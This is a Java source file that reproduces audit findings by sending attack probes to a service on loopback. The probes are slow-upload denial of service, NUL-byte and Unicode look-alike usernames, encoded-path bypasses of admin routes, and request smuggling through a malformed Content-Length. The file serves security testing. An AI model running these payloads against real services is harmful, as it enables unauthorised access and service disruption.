import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.InputStream;
import java.net.InetSocketAddress;
import java.net.Socket;
import java.net.SocketTimeoutException;
import java.net.URI;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.regex.Matcher;
import java.util.regex.Pattern;

/**
 * Reproductions of attacks on the example for example/load/attack-probes.sh, run against a service on
 * loopback: each prints what was sent, the status (or what the connection did) and how long the
 * answer took. It prints no token.
 *
 * Usage: java AttackProbes.java BASE_URI ACCESS_TOKEN PROBE...
 * where PROBE is one of: slow-bodies-16, slow-bodies-100, nul-login, look-alikes, raw-paths,
 * content-length, jdk-answers.
 */
public class AttackProbes {
  private static final Pattern STATUS = Pattern.compile("^HTTP/1\\.1 (\\d{3})", Pattern.MULTILINE);

  private static InetSocketAddress address;
  private static String token;

  public static void main(String[] args) throws Exception {
    URI base = URI.create(args[0]);
    address = new InetSocketAddress(base.getHost(), base.getPort());
    token = args[1];
    for (int i = 2; i < args.length; i++) {
      switch (args[i]) {
        case "slow-bodies-16" -> slowBodies(16);
        case "slow-bodies-100" -> slowBodies(100);
        case "nul-login" -> nulLogin();
        case "look-alikes" -> lookAlikes();
        case "raw-paths" -> rawPaths();
        case "content-length" -> contentLength();
        case "jdk-answers" -> jdkAnswers();
        default -> throw new IllegalArgumentException("unknown probe " + args[i]);
      }
    }
  }

  /** Finding 1: stalled uploads, then the public route and /whoami, timed. */
  private static void slowBodies(int count) throws Exception {
    List<Socket> stalled = new ArrayList<>();
    for (int i = 0; i < count; i++) {
      Socket socket = new Socket();
      socket.connect(address, 5_000);
      socket.getOutputStream().write(("POST /user HTTP/1.1\r\nHost: localhost\r\n"
          + "Content-Length: 1000\r\n\r\n{").getBytes(StandardCharsets.ISO_8859_1));
      socket.getOutputStream().flush();
      stalled.add(socket);
    }
    Thread.sleep(300);
    System.out.printf("slow-bodies: %d uploads declared 1000 bytes, sent 1, stall%n", count);
    timed("  GET /no_current_stateless_user", get("/no_current_stateless_user"));
    for (int i = 0; i < 4; i++) {
      timed("  GET /whoami (valid token)", get("/whoami", "Authorization: Bearer " + token));
    }
    for (Socket socket : stalled) {
      socket.close();
    }
  }

  /** Finding 4: a NUL in the login name, 200 times; the script counts log lines and sessions. */
  private static void nulLogin() throws Exception {
    String body = "{\"username\":\"a\\u0000b\",\"password\":\"correct horse battery staple\"}";
    timed("nul-login: POST /create_token {\"username\":\"a\\u0000b\"}", post("/create_token", body));
    int[] counts = new int[600];
    long start = System.nanoTime();
    for (int i = 0; i < 199; i++) {
      counts[status(exchange(post("/create_token", body)))]++;
    }
    StringBuilder seen = new StringBuilder();
    for (int s = 0; s < counts.length; s++) {
      if (counts[s] > 0) {
        seen.append(' ').append(counts[s]).append(" x ").append(s);
      }
    }
    System.out.printf("  199 more: %s in %.0f ms%n", seen.toString().trim(),
        (System.nanoTime() - start) / 1e6);
  }

  /** Finding 5: look-alike names registered beside "alice smith" and "alice". */
  private static void lookAlikes() throws Exception {
    String[] names = {"alice smith", "alice\\u00a0smith", "alice\\u2009smith", "alice\\u3000smith",
        "alice", "Alice", "\\u0430lice", "\\uff41\\uff4c\\uff49\\uff43\\uff45"};
    for (String name : names) {
      String body = "{\"username\":\"" + name + "\",\"password\":\"correct horse battery staple\"}";
      timed("look-alikes: POST /user \"" + name + "\"", post("/user", body));
    }
  }

  /** Finding 6: the admin routes by encoded and absolute-form targets. */
  private static void rawPaths() throws Exception {
    for (String target : new String[] {"/admin/users", "/%61dmin/users", "/admin%2Fusers",
        "http://evil/admin/users", "/%77hoami"}) {
      timed("raw-paths: GET " + target + " (no token)", get(target));
    }
  }

  /** Finding 7: Content-Length: +31 with a request smuggled after the body; JDK error pages. */
  private static void contentLength() throws Exception {
    String body = "{\"username\":\"x\",\"password\":\"y\"}";
    String request = "POST /create_token HTTP/1.1\r\nHost: localhost\r\nContent-Length: +"
        + body.length() + "\r\n\r\n" + body
        + "GET /no_current_stateless_user HTTP/1.1\r\nHost: localhost\r\n\r\n";
    long start = System.nanoTime();
    String answer = exchange(request);
    Matcher statuses = STATUS.matcher(answer);
    List<String> seen = new ArrayList<>();
    while (statuses.find()) {
      seen.add(statuses.group(1));
    }
    System.out.printf("content-length: Content-Length: +%d, then a smuggled GET: statuses %s,"
        + " %.1f ms%n", body.length(), seen, (System.nanoTime() - start) / 1e6);
    for (String length : new String[] {"abc", "-1", "1, 1", "0x1f"}) {
      String raw = exchange("POST /create_token HTTP/1.1\r\nHost: localhost\r\nContent-Length: "
          + length + "\r\n\r\n" + body);
      String type = raw.lines().filter(l -> l.toLowerCase().startsWith("content-type:"))
          .findFirst().orElse("no Content-Type");
      String tail = raw.contains("\r\n\r\n") ? raw.substring(raw.indexOf("\r\n\r\n") + 4) : "";
      System.out.printf("  Content-Length: %s -> %s, %s, body %s%n", length,
          raw.isEmpty() ? "closed without an answer" : raw.lines().findFirst().orElse(""), type,
          tail.replaceAll("\\s+", " ").strip());
    }
  }

  /** Malformed requests that the JDK's server answers itself, before any handler sees them. */
  private static void jdkAnswers() throws Exception {
    String[] requests = {
        "GARBAGE\r\n\r\n",
        "GET /whoami\r\n\r\n",
        "GET /%zz HTTP/1.1\r\nHost: localhost\r\n\r\n",
        "GET /whoami HTTP/1.1\r\nHost: localhost\r\nNo colon here\r\n\r\n",
        "POST /user HTTP/1.1\r\nHost: localhost\r\nTransfer-Encoding: gzip\r\n\r\n",
        "POST /user HTTP/1.1\r\nHost: localhost\r\nContent-Length: 99999999999999999999\r\n\r\n"};
    for (String request : requests) {
      String raw = exchange(request);
      String type = raw.lines().filter(l -> l.toLowerCase().startsWith("content-type:"))
          .findFirst().orElse("no Content-Type");
      String tail = raw.contains("\r\n\r\n") ? raw.substring(raw.indexOf("\r\n\r\n") + 4) : "";
      System.out.printf("jdk-answers: %s -> %s, %s, body %s%n",
          request.strip().replace("\r\n", " | "),
          raw.isEmpty() ? "closed without an answer" : raw.lines().findFirst().orElse(""), type,
          tail.replaceAll("\\s+", " ").strip());
    }
  }

  private static String get(String target, String... headers) {
    StringBuilder request = new StringBuilder("GET " + target + " HTTP/1.1\r\nHost: localhost\r\n");
    for (String header : headers) {
      request.append(header).append("\r\n");
    }
    return request.append("Connection: close\r\n\r\n").toString();
  }

  private static String post(String target, String json) {
    byte[] body = json.getBytes(StandardCharsets.UTF_8);
    return "POST " + target + " HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n"
        + "Content-Length: " + body.length + "\r\n\r\n"
        + new String(body, StandardCharsets.ISO_8859_1);
  }

  private static void timed(String what, String request) throws IOException {
    long start = System.nanoTime();
    String answer = exchange(request);
    double millis = (System.nanoTime() - start) / 1e6;
    String first = answer.isEmpty() ? "closed without an answer" : answer.lines().findFirst().orElse("");
    String tail = answer.contains("\r\n\r\n") ? answer.substring(answer.indexOf("\r\n\r\n") + 4) : "";
    System.out.printf("%s -> %s %s (%.1f ms)%n", what, first.replace("HTTP/1.1 ", ""),
        tail.length() > 90 ? tail.substring(0, 90) + "..." : tail, millis);
  }

  private static int status(String answer) {
    Matcher matcher = STATUS.matcher(answer);
    return matcher.find() ? Integer.parseInt(matcher.group(1)) : 0;
  }

  /** Sends {@code request} on a new connection and reads until the server closes it or 2 s pass. */
  private static String exchange(String request) throws IOException {
    try (Socket socket = new Socket()) {
      socket.connect(address, 5_000);
      socket.setSoTimeout(15_000);
      socket.getOutputStream().write(request.getBytes(StandardCharsets.ISO_8859_1));
      socket.getOutputStream().flush();
      InputStream in = socket.getInputStream();
      ByteArrayOutputStream bytes = new ByteArrayOutputStream();
      byte[] buffer = new byte[4096];
      try {
        for (int n; (n = in.read(buffer)) != -1; ) {
          bytes.write(buffer, 0, n);
          socket.setSoTimeout(2_000);
        }
      } catch (SocketTimeoutException e) {
        // kept open: what arrived is the answer
      } catch (IOException reset) {
        // closed by the server
      }
      return bytes.toString(StandardCharsets.UTF_8);
    }
  }
}
